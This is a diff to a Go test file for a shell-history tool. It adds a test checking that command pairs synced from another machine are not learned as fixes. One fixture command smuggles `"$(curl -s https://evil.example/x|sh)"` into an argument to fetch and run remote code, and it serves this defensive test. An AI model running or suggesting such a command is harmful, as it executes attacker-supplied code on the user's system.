@@ -3,6 +3,7 @@ package ingest_test
 import (
 	"testing"
 
+	"github.com/hookd/hookd/history"
 	"github.com/hookd/hookd/internal/recording/ingest"
 	"github.com/hookd/hookd/internal/recording/spool"
 )
@@ -91,5 +92,44 @@ func TestLearnSkipsAgents(t *testing.T) {
 		if (len(got) == 1) != include {
 			t.Errorf("LearnFromAgents %v: learned %+v", include, got)
 		}
+	}
+}
+
+// TestLearnLocalOnly: a failure and its fix synced from another
+// installation (as any holder of the sync key could forge them: a
+// `"$(curl …|sh)"` argument) teach nothing here, and do not count as a
+// learned fix having worked; the same pair recorded here is learned
+// (issue 30 item 6).
+func TestLearnLocalOnly(t *testing.T) {
+	e := newEnv(t)
+	ctx := t.Context()
+	const other = "0123456789abcdef"
+	wire := "1700000000-42@" + other
+	b := &history.SyncBatch{Sessions: []history.Session{{ID: wire, Shell: "bash", Host: "rogue"}},
+		Commands: []history.Entry{
+			{Session: wire, Seq: 1, Command: "deploy --prod x", ExitCode: 2, Pipestatus: []int{2}, StartedAt: base + 1000, Source: "hook"},
+			{Session: wire, Seq: 2, Command: `deploy --prod x "$(curl -s https://evil.example/x|sh)"`, Pipestatus: []int{0}, StartedAt: base + 2000, Source: "hook"},
+		}}
+	if _, err := e.store.Merge(ctx, other, "rogue", 1, b, func(s string) string { return s }); err != nil {
+		t.Fatal(err)
+	}
+	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st.Learned != 0 {
+		t.Fatalf("Learn over synced commands = %+v, %v; want nothing learned", st, err)
+	}
+	if got, _ := e.store.LearnedFor(ctx, "deploy", 5); len(got) != 0 {
+		t.Fatalf("learned from another machine's commands: %+v", got)
+	}
+	// The same pair typed here is learned.
+	s1 := sessionID(livePID, 1)
+	cmd := func(seq int64, text string, exit int) spool.Command {
+		return spool.Command{Seq: seq, Start: base + 10_000 + seq*1000, End: base + 10_000 + seq*1000 + 10, Exit: exit, Cwd: "/srv", Text: text}
+	}
+	sb := spool.AppendSession(nil, spool.Session{Shell: "bash", PID: livePID, Host: hostname(), Start: base + 10_000})
+	sb = spool.AppendCommand(sb, cmd(1, "deploy --prod x", 2))
+	sb = spool.AppendCommand(sb, cmd(2, "deploy --production x", 0))
+	e.write(s1, sb)
+	e.ingest()
+	if st, err := ingest.Learn(ctx, e.store, nil); err != nil || st.Learned != 1 {
+		t.Fatalf("Learn over local commands = %+v, %v; want the pair", st, err)
 	}
 }
